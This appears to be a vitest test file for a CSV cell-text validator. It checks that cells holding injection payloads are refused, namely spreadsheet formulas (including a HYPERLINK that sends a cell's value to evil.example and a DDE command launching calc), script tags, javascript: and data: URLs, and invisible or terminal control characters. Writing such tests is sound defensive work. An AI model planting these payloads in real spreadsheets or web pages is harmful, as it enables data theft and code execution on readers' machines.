import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { column, writingOf } from '../columns';
import { allTables } from '../registry';
import { defineTable } from '../table';
import { heldTextProblem } from './cell-text';
import { texts } from './texts';

const table = defineTable({
  file: 'data/made_up.csv',
  title: 'Made up',
  description: 'Made up.',
  edition: '2026',
  row: z.object({
    plain: column.text('A name'),
    prose: column.optional(column.prose('Sentences')),
    address: column.address('An address'),
    website: column.optional(column.website('A website')),
    listed: column.optional(column.website('A website', { asListed: true })),
    list: column.list(column.text('A name'), 'Names', ';'),
    number: column.number('A number'),
    word: column.oneOf(['=', 'b'], 'A word'),
  }),
  primaryKey: ['plain'],
  sources: [],
});

type Column = keyof (typeof table)['row']['shape'];

const reasons = (name: Column, ...cells: string[]) =>
  texts({ name: 'made_up', table, records: cells.map((cell) => ({ [name]: cell })), failures: [] });

describe('text of a table', () => {
  it.each<[string, string, string]>([
    ['a formula', '=HYPERLINK("http://evil.example/?"&A1,"School")', 'run it as a formula'],
    ['a call of a program', "=cmd|'/C calc'!A0", 'run it as a formula'],
    ['a formula by another sign', '@SUM(1)', 'run it as a formula'],
    ['a formula of a difference', '-2+3', 'run it as a formula'],
    ['a formula after an invisible character', '\u200B=1', 'run it as a formula'],
    ['a formula for a spreadsheet that separates by semicolons', 'Birmingham;=1+1', 'equals sign'],
    ['a tag', 'Bir<img src onerror>', 'markup'],
    ['a tag without attributes', 'School</script><script>alert(1)</script>', 'markup'],
    ['an entity', 'Health &amp; Nursing', 'markup'],
    ['a line break', 'Birmingham\n# Heading', 'line break'],
    ['a mark of direction', 'Bir\u202Emingham', 'no reader sees'],
    ['a soft hyphen', 'Bir\u00ADmingham', 'no reader sees'],
    ['a bell', 'Birmingham\u0007', 'the control character U+0007'],
    ['letters of another alphabet', 'Вirmingham', 'mixes alphabets'],
    ['a lost letter', 'Jos\uFFFD', 'U+FFFD'],
    ['a blank at the end', 'Birmingham ', 'ends with a space'],
  ])('is refused with %s', (_, cell, reason) => {
    for (const name of ['plain', 'prose', 'list'] as const) {
      expect(reasons(name, 'Kent', cell)).toEqual([
        { table: 'made_up', record: 2, column: name, reason: expect.stringContaining(reason) },
      ]);
    }
  });

  it.each([
    'Kent State University at Kent',
    'Texas A&M University',
    'anatomy (A&P; B or better)',
    'under 10, <10 or < 5%',
    'José Rizal College',
    '-0.0191',
    '-2',
    'https://nursing.ua.edu/?p=203 ; http://catalog.csulb.edu/preview_program.php?catoid=5&poid=2115',
    '',
  ])('may be %j', (cell) => {
    expect(reasons('plain', cell)).toEqual([]);
  });

  it('may reckon in prose alone, after a value', () => {
    for (const cell of ['A=4, B+=3.5', '81,617 against 90,435 = 0.90', 'first (ACT=G)', '90%=2']) {
      expect(reasons('prose', cell)).toEqual([]);
      expect(reasons('plain', cell)).toHaveLength(1);
    }
    for (const cell of ['a, =1', 'a "=1"', 'a ==1', 'a;=cmd()'])
      expect(reasons('prose', cell)).toHaveLength(1);
  });

  it('names every record with the cell, and no character of it steers a terminal', () => {
    expect(
      reasons('plain', 'a\u001B[2J', 'b', 'a\u001B[2J').map(({ record, reason }) => [record, reason]),
    ).toEqual([1, 3].map((record) => [record, '"aU+001B[2J": the control character U+001B; delete it']));
  });

  it('is not looked for where the schema reads a number or a word', () => {
    expect([...reasons('number', '-1'), ...reasons('word', '=')]).toEqual([]);
  });
});

describe('a web address', () => {
  const broken = [
    'javascript:alert(1)//">',
    'javascript:alert(1)',
    'data:text/html,x',
    '//evil.example',
    'www.a.edu/"onload',
    "www.a.edu/'x",
    'www.a.edu/<b',
    'www.a.edu\\b',
    'www.a.edu/\tb',
    'a.edu b.edu',
    'https://www.a.edu@evil.example/',
    'https://www.a.edu/ ',
    '=www.a.edu',
  ];

  it.each(broken)('is not %j', (cell) => {
    expect(reasons('website', cell)).toHaveLength(1);
    expect(reasons('address', cell)).toHaveLength(1);
  });

  it('has a scheme where readers are sent to it, and may be several', () => {
    expect(
      reasons('address', 'https://a.edu', 'http://a.edu/?b=1#c', 'https://a.edu/ ; https://b.edu/'),
    ).toEqual([]);
    expect(
      reasons('address', 'www.a.edu', 'https://a.edu/ b', 'https://a.edu/ ; javascript:alert(1)'),
    ).toHaveLength(3);
  });

  it('may lack the scheme as a website, and have a blank after the host', () => {
    expect(
      reasons('website', 'www.a.edu', 'a.edu/b?c=d', 'HTTPS://A.edu', 'www.a.edu/#location=Tampa, FL'),
    ).toEqual([]);
    expect(reasons('website', 'www', 'www.a.edu/a  b')).toHaveLength(2);
  });

  it('may lead nowhere where an agency lists it, without another scheme', () => {
    expect(reasons('listed', 'http://', 'http://www,esc.edu/nursing', '..\\AppData\\Local')).toEqual([]);
    expect(
      reasons('listed', 'javascript:alert(1)', 'vbscript:x', 'data:,x', 'a b', 'a"b', 'a<b'),
    ).toHaveLength(6);
  });

  it('is the kind of every column that is named for one', () => {
    const named = allTables.flatMap(({ name, table: { row } }) =>
      Object.entries<z.ZodType>(row.shape).flatMap(([key, cell]) =>
        /(^|_)(url|website)$/.test(key) &&
        heldTextProblem('javascript:alert(1)', writingOf(cell)) === undefined
          ? [`${name}.${key}`]
          : [],
      ),
    );
    expect(named).toEqual([]);
  });
});
